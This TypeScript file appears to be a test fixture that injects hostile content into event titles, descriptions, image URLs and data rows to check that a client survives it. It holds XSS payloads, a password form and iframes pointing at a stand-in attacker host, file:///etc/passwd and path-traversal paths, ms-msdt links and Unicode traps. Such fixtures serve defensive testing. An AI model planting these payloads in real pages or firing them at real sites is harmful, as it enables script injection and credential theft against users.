import type { EventRecord } from '../data/records.ts'

/**
 * Content a client has to survive: checks INPUT-3, INPUT-8, INPUT-10, INPUT-14, INPUT-15. Chosen by event id, so it is
 * the same each time.
 */
const choose = <T>(items: readonly T[], id: number): T | undefined => items[id % items.length]

const TITLES = [
  '<script>document.title="owned"</script>Party',
  '"><img src=x onerror=alert(1)>',
  "';alert(String.fromCharCode(88,83,83))//",
  '<svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
]

export function hostileTitle(id: number, title: unknown): string {
  return `${choose(TITLES, id) ?? ''} ${String(title)}`
}

const DESCRIPTIONS = [
  '<p onclick="alert(1)">Come</p><script>alert(1)</script><a href="javascript:alert(1)">tickets</a>',
  '<iframe src="https://evil.invalid/"></iframe><form action="https://evil.invalid/"><input name="password"></form>',
  '<a href="file:///etc/passwd">plan</a> <a href="ms-msdt:/id">help</a> <a href="\\\\evil.invalid\\share">files</a>',
  '<style>*{display:none}</style><base href="https://evil.invalid/"><link rel="stylesheet" href="//evil.invalid/a.css">',
  `${'<b>'.repeat(2000)}deep${'</b>'.repeat(2000)}`,
  '<img src="https://evil.invalid/track.gif" onerror=alert(1)><p style="position:fixed;inset:0">over</p>',
  '<a href="http://user:pass@evil.invalid/">sign in</a><math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
]

export function hostileDescription(event: EventRecord): string {
  return `${choose(DESCRIPTIONS, event.id) ?? ''}<p>${event.description}</p>`
}

const IMAGES = [
  'javascript:alert(1)//%s.png',
  'file:///etc/passwd%s',
  '\\\\evil.invalid\\share\\a%s.png',
  'https://evil.invalid/a%s.png',
  'data:image/svg+xml,<svg onload=alert(1)>%s',
  '../../../../etc/passwd%s',
]

export function hostileImage(id: number): string | null {
  return choose(IMAGES, id) ?? null
}

export function unicodeTitle(event: EventRecord): string {
  const traps = [
    `\u202e${event.title}`,
    `${event.title.slice(0, 3)}\u200b\u200d\u2060${event.title.slice(3)}`,
    event.title.normalize('NFD'),
    `${event.title} \u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}`,
    `${event.title}${'\u0301'.repeat(40)}`,
    `İstanbul ıssız ${event.title}`,
    `\u2067${event.title}\u0007`,
  ]
  return choose(traps, event.id) ?? event.title
}

export function oddTimes(event: EventRecord): { startTime: number; endTime: number } {
  const { startTime, endTime } = event
  const odd = [
    { startTime, endTime },
    { startTime: 0, endTime: 0 },
    { startTime: -86_400, endTime: startTime },
    { startTime: startTime * 1000, endTime: endTime * 1000 },
    { startTime: endTime, endTime: startTime },
    { startTime: 253_402_300_800, endTime: 253_402_304_400 },
  ]
  return choose(odd, event.id) ?? event
}

/** Every seventh row spoilt in one of several ways (INPUT-3). */
export function spoilRows(rows: readonly Record<string, unknown>[]): unknown[] {
  return rows.map((row, index) => (index % 7 === 6 ? spoil(row, Math.floor(index / 7)) : row))
}

function spoil(row: Record<string, unknown>, which: number): unknown {
  const ways: readonly (() => unknown)[] = [
    () => Object.fromEntries(Object.entries(row).filter(([name]) => name !== 'event_id')),
    () => ({ ...row, event_id: '1e3', start_time: 'tomorrow' }),
    () => null,
    () => 'Array',
    () => ({ ...row, title: null, start_time: { date: 'x' } }),
    () => [],
    () => ({ ...row, event_id: '99999999999999999999', rsvp_id: '-1' }),
  ]
  return choose(ways, which)?.()
}

/** SITE-L5: rows made from the groups of a differently shaped list, so no field holds what its name says. */
export function brokenSort(rows: readonly Record<string, unknown>[]): unknown[] {
  return rows.map((row) =>
    Object.fromEntries(Object.keys(row).map((name) => [name, name === 'rsvp_id' ? '0' : null])),
  )
}
